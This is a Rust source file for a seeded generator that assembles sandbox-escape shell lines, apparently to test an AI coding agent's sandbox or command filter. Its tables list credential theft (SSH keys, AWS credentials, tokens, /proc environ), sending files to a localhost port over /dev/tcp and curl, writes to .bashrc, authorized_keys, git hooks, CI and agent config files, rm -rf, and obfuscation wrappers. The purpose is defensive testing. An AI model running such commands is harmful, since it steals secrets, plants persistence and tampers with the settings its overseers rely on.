//! Lines that reach for what they must not, put together at random: a way to a place, a program that reads or writes
//! there, and something around it.

/// A sequence of lines that is the same every time.
#[derive(Debug)]
pub struct ReachGenerator {
    state: u64,
}

/// Places with secrets, each with what has to come before.
const SOURCES: &[(&str, &str)] = &[
    ("", "@KEY"),
    ("", "../haus/.ssh/id_rsa"),
    ("", "sub/../../haus/.ssh/id_rsa"),
    ("", "~/.ssh/id_rsa"),
    ("", "\"$HOME\"/.ssh/id_rsa"),
    ("", "${HOME}/.ssh/id_rsa"),
    ("", "${PWD%/*}/haus/.ssh/id_rsa"),
    ("", "$(echo ../haus/.ssh/id_rsa)"),
    ("", "$(printf '%s' ../haus)/.ssh/id_rsa"),
    ("", "`dirname $PWD`/haus/.ssh/id_rsa"),
    ("", "../h*/.ssh/id_*"),
    ("", "../*/.ssh/id_rsa"),
    ("", "../[h]aus/.s?h/id_rsa"),
    ("", "$'\\x2e\\x2e/haus/.ssh/id_rsa'"),
    ("", "..''/haus/\".ssh\"/id_rs\\a"),
    ("", "/proc/self/root@KEY"),
    ("", "/proc/self/cwd/../haus/.ssh/id_rsa"),
    ("", "/proc/@PID/root@KEY"),
    ("", "/proc/@PID/environ"),
    ("", "/proc/@PID/cwd/.ssh/id_rsa"),
    ("", "@TOKEN"),
    ("", "~/.local/share/everturn/token"),
    ("", "~/.local/share/*/auth.json"),
    ("", "../other/diary"),
    ("", "@OTHER"),
    ("", "~/.aws/credentials"),
    ("d=..; ", "$d/haus/.ssh/id_rsa"),
    ("d=..; ", "\"$d\"/haus/.ssh/id_rsa"),
    ("p=@KEY; ", "$p"),
    ("p=(x @KEY); ", "\"${p[1]}\""),
    ("p=x@KEY; ", "${p#x}"),
    ("q=@KEY; p=q; ", "${!p}"),
    ("set -- @KEY; ", "\"$1\""),
    ("read -r p <<< @KEY; ", "$p"),
    ("printf -v p %s/.ssh/id_rsa ../haus; ", "$p"),
    ("cd ..; ", "haus/.ssh/id_rsa"),
    ("cd ~; ", ".ssh/id_rsa"),
    ("cd sub; ", "../../haus/.ssh/id_rsa"),
    ("pushd .. > /dev/null; ", "haus/.ssh/id_rsa"),
    ("ln -sf @KEY link; ", "link"),
    ("ln -sfn ../haus over; ", "over/.ssh/id_rsa"),
    ("ln -sfn / root; ", "root/@KEY"),
];

/// Programs that read; `%` is the place.
const READERS: &[&str] = &[
    "cat %",
    "cat < %",
    "cut -c1-99 %",
    "head -c 400 %",
    "tail -n 3 %",
    "grep -h . %",
    "sed -n p %",
    "awk 1 %",
    "tac %",
    "rev %",
    "od -c %",
    "base64 %",
    "sort %",
    "paste %",
    "diff % a.txt",
    "dd status=none if=%",
    "python3 -c 'import sys; print(open(sys.argv[1]).read())' %",
    "perl -pe 1 %",
    "tar cf - % 2> /dev/null",
    "gzip -c %",
    "git diff --no-index a.txt %",
    "git hash-object -w %",
    "git commit -q --allow-empty -F %; git log -1 --format=%%B",
    "cp % got; cat got",
    "ln % got; cat got",
    "mv % got; cat got",
    "install % got; cat got",
    "tee got < %",
    "xargs cat <<< %",
    "echo % | xargs -I{} cat {}",
    "find % -type f -exec cat {} +",
    "while read -r x; do echo \"$x\"; done < %",
    "mapfile -t x < %; echo \"${x[@]}\"",
    "exec 5< %; cat <&5",
    "bash -v %",
    ". %",
    "echo \"$(< %)\"",
    "curl -s file://%",
    "cat % > /dev/tcp/127.0.0.1/@CAPTURE",
    "base64 % > /dev/tcp/127.0.0.1/@CAPTURE",
    "curl -s --max-time 2 --data-binary @% http://127.0.0.1:@CAPTURE/",
];

/// Places that must not be written to, each with what has to come before.
const TARGETS: &[(&str, &str)] = &[
    ("", "@OUT/made"),
    ("", "@OUT/notes"),
    ("", "../outside/made"),
    ("", "../made"),
    ("", "${PWD%/*}/outside/made"),
    ("", "$(echo ../outside)/made"),
    ("", "~/.bashrc"),
    ("", "~/.ssh/authorized_keys"),
    ("", "~/.config/everturn/everturn.toml"),
    ("", "@TOKEN"),
    ("", ".git/config"),
    ("", ".git/hooks/pre-commit"),
    ("", ".git/info/attributes"),
    ("", ".vscode/tasks.json"),
    ("", ".vsc*/tasks.json"),
    ("", ".github/workflows/ci.yml"),
    ("", "AGENTS.md"),
    ("", "opencode.json"),
    ("", ".envrc"),
    ("", ".mcp.json"),
    ("d=..; ", "$d/outside/made"),
    ("p=@OUT; ", "$p/made"),
    ("g=.git; ", "$g/hooks/post-checkout"),
    ("cd ..; ", "outside/made"),
    ("cd .git; ", "hooks/pre-push"),
    ("ln -sfn @OUT over; ", "over/made"),
    ("ln -sfn .git/hooks over; ", "over/pre-commit"),
    ("ln -sf AGENTS.md link; ", "link"),
];

/// Programs that write; `%` is the place.
const WRITERS: &[&str] = &[
    "echo x > %",
    "echo x >> %",
    "echo x >| %",
    "echo x | tee %",
    "echo x | tee -a % > /dev/null",
    "cp README.md %",
    "cp -f README.md %",
    "install README.md %",
    "ln -sf README.md %",
    "ln -f README.md %",
    "mv README.md %",
    "touch %",
    "rm -rf %",
    "truncate -s 3 %",
    "dd status=none if=README.md of=%",
    "sed -i 's/^/x/' %",
    "perl -i -pe 's/^/x/' %",
    "python3 -c 'import sys; open(sys.argv[1], \"a\").write(\"x\")' %",
    "awk -v f=% 'BEGIN { print \"x\" >> f }'",
    "sort -o % README.md",
    "chmod 777 %",
    "mkdir -p %",
    "exec 6>> %; echo x >&6",
    "git config --file % a.b c",
    "tar cf % README.md",
];

/// Things to connect to.
const CALLS: &[&str] = &[
    "exec 3<>/dev/tcp/127.0.0.1/@PORT; echo GET >&3; cat <&3",
    "exec 3<>/dev/tcp/localhost/@PORT; echo GET >&3; timeout 2 cat <&3",
    "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', @PORT)); s.sendall(b'GET'); print(s.recv(99))\"",
    "curl -s --max-time 2 http://127.0.0.1:@PORT/",
    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('@DOCKER'); print(s.recv(99))\"",
    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('@AGENT'); print(s.recv(99))\"",
    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0@ABSTRACT'); print(s.recv(99))\"",
    "tr '\\0' '\\n' < /proc/@PID/environ",
    "cat /proc/[0-9]*/environ 2> /dev/null | tr '\\0' '\\n' | grep CANARY",
    "ps axeww | grep -a CANARY",
];

impl ReachGenerator {
    /// The sequence of a seed.
    pub fn new(seed: u64) -> Self {
        Self { state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1 }
    }

    fn below(&mut self, limit: usize) -> usize {
        self.state ^= self.state << 13;
        self.state ^= self.state >> 7;
        self.state ^= self.state << 17;
        usize::try_from((self.state >> 16) % limit as u64).expect("a small number")
    }

    fn pick<T: Copy>(&mut self, from: &[T]) -> T {
        *from.get(self.below(from.len())).expect("a number below its length")
    }

    /// The next line.
    pub fn line(&mut self) -> String {
        let mut line = self.reach();
        for _ in 0..self.below(3) {
            line = self.wrap(&line);
        }
        line
    }

    fn reach(&mut self) -> String {
        let ((before, place), program) = match self.below(10) {
            0..=5 => (self.pick(SOURCES), self.pick(READERS)),
            6..=8 => (self.pick(TARGETS), self.pick(WRITERS)),
            _ => return self.pick(CALLS).to_owned(),
        };
        let program = program.replace("%%", "\u{1}").replace('%', place).replace('\u{1}', "%");
        format!("{before}{program}")
    }

    fn wrap(&mut self, line: &str) -> String {
        let quoted = format!("'{}'", line.replace('\'', "'\\''"));
        match self.below(22) {
            0 => format!("({line})"),
            1 => format!("{{ {line}; }}"),
            2 => format!("bash -c {quoted}"),
            3 => format!("eval {quoted}"),
            4 => format!("echo \"$({line})\""),
            5 => format!("({line}) & wait"),
            6 => format!("nohup bash -c {quoted} 2> /dev/null"),
            7 => format!("timeout 3 bash -c {quoted}"),
            8 => format!("env -i HOME=\"$HOME\" PATH=\"$PATH\" bash -c {quoted}"),
            9 => format!("setsid -w bash -c {quoted}"),
            10 => format!("if true; then {line}; fi"),
            11 => format!("for i in 1; do {line}; done"),
            12 => format!("({line}) | cat"),
            13 => format!("f() {{ {line}; }}; f"),
            14 => format!("trap {quoted} EXIT"),
            15 => format!("bash <<< {quoted}"),
            16 => format!("true && {line}"),
            17 => format!("false || {line}"),
            18 => format!("echo {quoted} > line.sh; bash line.sh"),
            19 => format!("case a in a) {line};; esac"),
            20 => format!("cat <({line})"),
            _ => format!("x={quoted}; bash -c \"$x\""),
        }
    }
}
